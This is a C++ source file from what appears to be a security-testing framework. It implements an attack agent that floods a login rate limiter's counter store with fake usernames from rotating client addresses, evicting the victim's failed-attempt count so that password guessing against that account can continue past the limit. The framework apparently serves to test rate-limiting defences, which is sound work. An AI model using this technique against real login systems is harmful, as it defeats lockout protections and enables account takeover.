// guess-after-flood: fills the store of counters with names that nobody has, so that it throws away
// the victim's. Each name comes from another network. He comes back before the limit is reached,
// for some stores keep only counts that are full. A store whose memory grows with each name gets as
// many as a thousand counters, and some. His own name comes last: it may be that nobody is counted
// for whom there is no room.
#include "core/attack/every_agent.h"
#include "core/attack/guesser.h"

namespace parapet::attack {
namespace {

constexpr int kMostRounds = 4;
constexpr std::size_t kTooMany = 23;  // tries at one account: three more than any limit allows
constexpr std::size_t kMostUntilFull = 30;
constexpr std::size_t kNamesToLook = 24;
constexpr std::size_t kNamesOfFlood = 130;
constexpr std::size_t kNamesOfGreatFlood = 1100;

class GuessAfterFlood final : public Agent {
    void run(Target& target) override {
        Guesser guesser(target);
        if (target.inside() == nullptr || !guesser.can_try()) return;
        std::size_t const limit = guesser.exhaust(kMostUntilFull);
        if (limit == kMostUntilFull) guesser.guess_from_anywhere(guesser.right());  // there is none
        if (limit < 2 || limit == kMostUntilFull) return;
        target.inside()->memory_grows();
        flood(target, guesser, kNamesToLook);
        bool const grows = target.inside()->memory_grows();
        target.wait(kUntilForgotten);
        std::size_t tries = 0;
        for (int round = 0; round < kMostRounds && tries < kTooMany; ++round, tries += limit - 1) {
            if (round > 0) flood(target, guesser, grows ? kNamesOfGreatFlood : kNamesOfFlood);
            guesser.exhaust(limit - 1);
        }
        guesser.count({guesser.victim()});
        count_newcomer(target, guesser);
    }

    static void count_newcomer(Target& target, Guesser& guesser) {
        std::string const& name = target.surface().attacker.username;
        for (std::size_t i = 0; i < kTooMany; ++i) {
            http::Request one = guesser.request(name, guesser.wrong_one());
            one.client_address = guesser.new_address();
            target.forget_cookies();
            if (is_refused(target.send(one))) return;
        }
        guesser.count({name});
    }

    static void flood(Target& target, Guesser& guesser, std::size_t names) {
        for (std::size_t i = 0; i < names; ++i) {
            http::Request one = guesser.request(guesser.wrong_one(), guesser.wrong_one());
            one.client_address = guesser.new_address();
            target.forget_cookies();
            target.send(one);
        }
    }
};

}  // namespace

std::unique_ptr<Agent> make_guess_after_flood() { return std::make_unique<GuessAfterFlood>(); }

}  // namespace parapet::attack
